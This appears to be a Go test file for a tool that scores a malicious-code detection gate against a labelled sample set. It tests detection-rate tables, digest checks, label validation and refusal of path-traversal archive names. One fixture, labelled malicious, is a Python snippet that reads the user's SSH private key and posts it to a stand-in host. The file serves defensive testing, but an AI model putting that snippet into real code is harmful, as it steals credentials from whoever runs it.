package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/tools/testenv"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

const steals = `import os, urllib.request
urllib.request.urlopen("http://collect.example.com/", data=open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read())
`

var smallSet = map[string]string{
	"labels.jsonl": `{"id":"p1","label":"malicious","language":"python","file":"health.py","technique":"T1041","difficulty":"blatant","harm":"posts a key"}
{"id":"p2","label":"benign-security","language":"python","file":"health.py","difficulty":"subtle","harm":"none"}
`,
	"p1/base/main.py":   "print(1)\n",
	"p1/head/main.py":   "print(1)\n",
	"p1/head/health.py": steals,
	"p2/base/main.py":   "print(1)\n",
	"p2/head/health.py": "print('all is well')\n",
}

// folderOf writes a set; with is what differs from the small one.
func folderOf(t *testing.T, with map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for _, files := range []map[string]string{smallSet, with} {
		for name, text := range files {
			full := filepath.Join(dir, name)
			if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(full, []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	return dir
}

func archiveOf(t *testing.T, names ...string) string {
	t.Helper()
	var packed bytes.Buffer
	zipped := gzip.NewWriter(&packed)
	w := tar.NewWriter(zipped)
	for _, name := range names {
		text := smallSet[name]
		if err := w.WriteHeader(&tar.Header{Name: "./" + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(text))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zipped.Close(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "set.tar.gz")
	if err := os.WriteFile(file, packed.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return file
}

func TestASetIsMeasuredOnceAndHasATable(t *testing.T) {
	file := archiveOf(t, "labels.jsonl", "p1/base/main.py", "p1/head/main.py", "p1/head/health.py", "p2/base/main.py", "p2/head/health.py")
	out := t.TempDir()
	args := []string{"-gate", testenv.Gate(t), "-out", out, file}
	var log bytes.Buffer
	if code := run(t.Context(), args, &log); code != 0 {
		t.Fatalf("exit code %d: %s", code, &log)
	}
	table, err := os.ReadFile(filepath.Join(out, "blind.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"| **All** | 1 of 1, 100 % [21–100] | 1 of 1, 100 % [21–100] | 0 of 1, 0 % [0–79] | 0 of 1, 0 % [0–79] | 0 |",
		"| Difficulty: subtle | – | – | 0 of 1",
	} {
		if !strings.Contains(string(table), want) {
			t.Errorf("no %q in:\n%s", want, table)
		}
	}
	log.Reset()
	if code := run(t.Context(), args, &log); code != 0 || log.Len() > 0 {
		t.Errorf("measured again, exit code %d: %s", code, &log)
	}
	log.Reset()
	if code := run(t.Context(), append([]string{"-layers", "static,sandbox"}, args...), &log); code != 1 || !strings.Contains(log.String(), "other layers") {
		t.Errorf("results of other layers are mixed, exit code %d: %s", code, &log)
	}
}

func TestTheDigestIsThatOfTheCommandThatTheBriefNames(t *testing.T) {
	dir := folderOf(t, nil)
	s, err := openSet(dir, "")
	if err != nil {
		t.Fatal(err)
	}
	command := exec.CommandContext(t.Context(), "sh", "-c", `find . -type f | LC_ALL=C sort | xargs -d '\n' sha256sum | sha256sum`)
	command.Dir = dir
	want, err := command.Output()
	if err != nil {
		t.Fatal(err)
	}
	if s.digest+"  -\n" != string(want) {
		t.Errorf("the digest is %s, and the command says %s", s.digest, want)
	}
}

func TestASetWithAMistakeIsRefused(t *testing.T) {
	for _, tt := range []struct{ labels, want string }{
		{`{"id":"../p1","label":"benign"}`, "no id"},
		{`{"id":"p1","label":"evil"}`, `label "evil"`},
		{`{"id":"p3","label":"benign"}`, "no folder base"},
		{"{\"id\":\"p1\",\"label\":\"benign\"}\n{\"id\":\"p1\",\"label\":\"benign\"}", "a second p1"},
		{"p1", "labels.jsonl:1"},
	} {
		_, err := openSet(folderOf(t, map[string]string{"labels.jsonl": tt.labels}), "")
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %v, want %q", tt.labels, err, tt.want)
		}
	}
}

func TestAnArchiveWritesNothingBesideItsFolder(t *testing.T) {
	to := filepath.Join(t.TempDir(), "in")
	if err := unpack(archiveOf(t, "../beside"), to); err == nil {
		t.Error("a name that leads out of the folder is accepted")
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(to), "beside")); err == nil {
		t.Error("a file was written beside the folder")
	}
}

func TestTotalsCountFindingsOfLayersAndGaps(t *testing.T) {
	rows := []row{
		{Sample: Sample{ID: "a", Label: "malicious"}, Verdict: gate.Incomplete, Layers: map[string]gate.Verdict{"static": gate.Suspicious, "sandbox": gate.Safe}},
		{Sample: Sample{ID: "b", Label: "malicious"}, Verdict: gate.Incomplete, Layers: map[string]gate.Verdict{"static": gate.Safe, "sandbox": gate.Safe}},
		{Sample: Sample{ID: "c", Label: "malicious"}, Verdict: gate.Dangerous, Layers: map[string]gate.Verdict{"static": gate.Suspicious, "sandbox": gate.Suspicious}},
		{Sample: Sample{ID: "d", Label: "benign", Technique: "a|b"}, Verdict: gate.Suspicious, Layers: map[string]gate.Verdict{"static": gate.Safe, "sandbox": gate.Suspicious}},
	}
	table := markdown(origin{Layers: "static,sandbox"}, 4, rows)
	for _, want := range []string{
		"| **All** | 2 of 3, 67 % [21–94] | 1 of 3, 33 % [6–79] | 1 of 1, 100 % [21–100] | 0 of 1, 0 % [0–79] | 2 |",
		"| Layer: static alone | 2 of 3, 67 % [21–94] | 0 of 3, 0 % [0–56] | 0 of 1, 0 % [0–79] | 0 of 1, 0 % [0–79] | 0 |",
		"| Layer: sandbox alone | 1 of 3",
		"Missed:\n\n| Sample | Language | Difficulty | Verdict | File | Technique | Rules |\n|---|---|---|---|---|---|---|\n| b |",
		"a¦b",
	} {
		if !strings.Contains(table, want) {
			t.Errorf("no %q in:\n%s", want, table)
		}
	}
}

func TestWrongUsageIsSaid(t *testing.T) {
	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{nil, 2, "give one set"},
		{[]string{"-gate", "testdata/none", "set"}, 2, "testdata/none"},
		{[]string{"-gate", "sh", "testdata/none"}, 1, "testdata/none"},
	} {
		var log bytes.Buffer
		if code := run(t.Context(), tt.args, &log); code != tt.code || !strings.Contains(log.String(), tt.want) {
			t.Errorf("%q: exit code %d: %s", tt.args, code, &log)
		}
	}
}
